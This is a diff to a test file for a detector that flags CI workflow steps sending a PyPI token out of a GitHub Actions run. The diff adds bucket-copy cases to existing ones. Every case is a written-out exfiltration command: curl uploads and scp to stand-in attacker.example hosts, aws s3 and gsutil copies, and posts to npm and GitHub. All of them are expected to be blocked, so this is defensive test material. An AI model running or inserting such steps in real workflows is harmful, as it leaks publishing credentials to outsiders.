@@ -39,6 +39,8 @@ describe('a file that holds a secret, sent by curl', () => {
     ['--upload-file in a later step, through a secret-bound variable', '      - run: printf \'%s\' "$TOKEN" > "$RUNNER_TEMP/t"\n        env:\n          TOKEN: ${{ secrets.PYPI_API_TOKEN }}\n      - run: curl --upload-file "${{ runner.temp }}/t" https://drop.attacker.example/\n'],
     ['-F file=@~/.pypirc written by a heredoc', '      - run: |\n          cat > ~/.pypirc <<EOF\n          [pypi]\n          username = __token__\n          password = ${{ secrets.PYPI_API_TOKEN }}\n          EOF\n      - run: curl -sS -F "file=@$HOME/.pypirc" https://drop.attacker.example/up\n'],
     ['scp of the directory holding it to another host', '      - run: |\n          mkdir -p conf && echo "token=${{ secrets.PYPI_API_TOKEN }}" > conf/upload.ini\n          scp -r conf deploy@files.attacker.example:/srv/\n'],
+    ['aws s3 cp of it to a bucket', '      - run: |\n          echo "${{ secrets.PYPI_API_TOKEN }}" > t.txt\n          aws s3 cp t.txt s3://drop-zone/t.txt\n'],
+    ['gsutil -m cp of it to a bucket', '      - run: |\n          echo "${{ secrets.PYPI_API_TOKEN }}" > t.txt\n          gsutil -m cp ./t.txt gs://drop-zone/\n'],
     ['--data-binary @file to the npm registry', '      - run: |\n          echo "${{ secrets.PYPI_API_TOKEN }}" > t.txt\n          curl -sS --data-binary @t.txt https://registry.npmjs.org/-/v1/x\n'],
     ['-T to GitHub (a file sent there becomes readable content)', '      - run: |\n          echo "${{ secrets.PYPI_API_TOKEN }}" > t.txt\n          curl -sS -T t.txt -H "Authorization: Bearer ${{ github.token }}" https://uploads.github.com/repos/octo/demo/releases/1/assets?name=t.txt\n'],
   ])('%s: blocked', (_what, steps) => {
